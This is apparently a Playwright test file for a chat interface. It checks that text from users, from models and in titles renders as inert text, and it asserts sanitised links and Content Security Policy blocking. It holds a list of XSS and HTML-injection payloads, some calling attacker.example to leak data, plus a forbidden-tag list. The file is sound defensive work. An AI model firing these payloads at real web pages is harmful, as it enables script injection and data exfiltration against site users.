"""Text that wants to be more than text: from users, from models, in titles. Nothing runs or loads."""

from __future__ import annotations

from typing import Final

import httpx
import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Visit
from tests.browser.ui import Ui, saying
from tests.support.processes import Replica

PAYLOADS: Final = (
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1><script>window.hacked=1</script></svg>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<a href='javascript:window.hacked=1'>a link</a>",
    "[a link](javascript:window.hacked=1)",
    "[a link](  JaVaScRiPt:window.hacked=1 )",
    "[a link](data:text/html,<script>parent.hacked=1</script>)",
    "[a link](vbscript:window.hacked=1)",
    "![x](https://attacker.example/leak?q=secret)",
    "![x](data:image/svg+xml,<svg onload=window.hacked=1>)",
    "![x][1]\n\n[1]: https://attacker.example/leak",
    "<form action=https://attacker.example><input autofocus onfocus=window.hacked=1><button>go</form>",
    "<style>@import 'https://attacker.example/x.css'; body{display:none}</style>",
    "<b style='position:fixed;inset:0' class='notice' id='field'>spoof</b>",
    "<details open ontoggle=window.hacked=1>x</details>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hacked=1&gt;'>",
    "<x-unknown onclick=window.hacked=1>x</x-unknown><base href='https://attacker.example/'>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
    "```html\n<script>window.hacked=1</script>\n```",
    '```js onerror=window.hacked=1 class="x"\n1\n```',
    "`<img src=x onerror=window.hacked=1>`",
    '<https://attacker.example/"onmouseover=window.hacked=1>',
    '[x](https://ok.example "onmouseover=window.hacked=1")',
    "| <img src=x onerror=window.hacked=1> |\n|---|\n| <script>window.hacked=1</script> |",
)
FORBIDDEN: Final = (
    "script, img, iframe, object, embed, form, input, style, link, meta, base, svg, math, video, audio"
)


def sound(ui: Ui) -> None:
    """Nothing ran, nothing foreign is in the messages; requests elsewhere fail every test anyway."""
    assert ui.page.evaluate("window.hacked") is None
    shown = ui.page.locator("#messages .text, #messages .bubble, #messages .thoughts")
    assert shown.locator(FORBIDDEN).count() == 0
    attributes = shown.locator("*").evaluate_all(
        "found => found.flatMap(element => element.getAttributeNames())"
    )
    assert not [
        name for name in attributes if name.startswith("on") or name in ("style", "id", "src", "srcdoc")
    ]
    links = shown.locator("a[href]")
    assert all(
        link.startswith(("https://", "http://", "mailto:"))
        for link in links.evaluate_all("links => links.map(link => link.getAttribute('href'))")
    )
    assert all(
        rel == "noopener noreferrer" for rel in links.evaluate_all("links => links.map(link => link.rel)")
    )


def test_what_a_model_says_is_only_ever_shown(ui: Ui) -> None:
    ui.ask(saying("\n\n".join(PAYLOADS)))
    sound(ui)
    for words in (
        "<script>window.hacked=1</script>",
        "<form action=https://attacker.example>",
        "<style>@import",
    ):
        expect(ui.answer).to_contain_text(words)
    ui.page.reload()
    ui.shows("<style>@import")
    sound(ui)


@pytest.mark.parametrize("start", [0, 1])
def test_nor_does_it_do_more_while_it_streams(ui: Ui, start: int) -> None:
    ui.send("[[rate=300]]" + saying("\n\n".join(PAYLOADS[start::2])))
    ui.done()
    sound(ui)


def test_what_a_user_says_is_shown_as_it_was_written(ui: Ui) -> None:
    text = "\n".join(PAYLOADS)
    ui.send(text)
    ui.done()
    assert ui.questions.last.locator(".bubble").text_content() == text
    sound(ui)


def test_titles_reasoning_and_ids_are_text_as_well(site: Replica, visit: Visit) -> None:
    for payload in PAYLOADS[:5]:
        httpx.post(f"{site.url}/v1/sessions", json={"title": payload}).raise_for_status()
    ui = visit()
    expect(ui.titles).to_have_text(list(reversed(PAYLOADS[:5])))
    ui.chats.first.click()
    expect(ui.page.get_by_role("heading", level=1)).to_have_text(PAYLOADS[4])
    assert ui.page.evaluate("window.hacked") is None


def test_a_remote_picture_is_a_link_and_is_never_asked_for(ui: Ui) -> None:
    ui.ask("[[say=Look: ![a cat](https://pictures.example/cat.png) there]]")
    link = ui.answer.get_by_role("link", name="a cat")
    expect(link).to_have_attribute("href", "https://pictures.example/cat.png")
    expect(link).to_have_attribute("target", "_blank")
    assert not [request.url for request in ui.requests if "pictures.example" in request.url]


def test_the_policy_of_the_page_forbids_what_is_inline_or_from_elsewhere(ui: Ui) -> None:
    ui.page.evaluate("""() => {
        const script = document.createElement('script');
        script.textContent = 'window.hacked = 1';
        document.body.append(script);
        const picture = new Image();
        picture.src = 'https://pictures.example/x.png';
        document.body.append(picture);
    }""")
    assert ui.page.evaluate("window.hacked") is None
    refused = [text for text in ui.troubles if "Content Security Policy" in text]
    assert len(refused) == 2
    ui.troubles.clear()
    ui.requests.clear()


def test_harmless_markdown_is_rendered(ui: Ui) -> None:
    ui.ask(
        saying(
            "# One\n\n**b** *e* ~~d~~ `c` <b>h</b> H<sub>2</sub>O a<br>b\n\n- [x] done\n- [ ] open\n\n> q\n\n"
            "3. three\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n[l](https://ok.example/)\n\n---\n"
        )
    )
    html = ui.answer.locator(".text").inner_html()
    for part in (
        "<h1>One</h1>",
        "<strong>b</strong>",
        "<em>e</em>",
        "<del>d</del>",
        "<code>c</code>",
        "<b>h</b>",
        "<sub>2</sub>",
        "<br>",
        "☑ done",
        "☐ open",
        "<blockquote>",
        '<ol start="3">',
        '<th align="center">a</th>',
        '<td align="right">2</td>',
        'href="https://ok.example/"',
        "<hr>",
    ):
        assert part in html, part
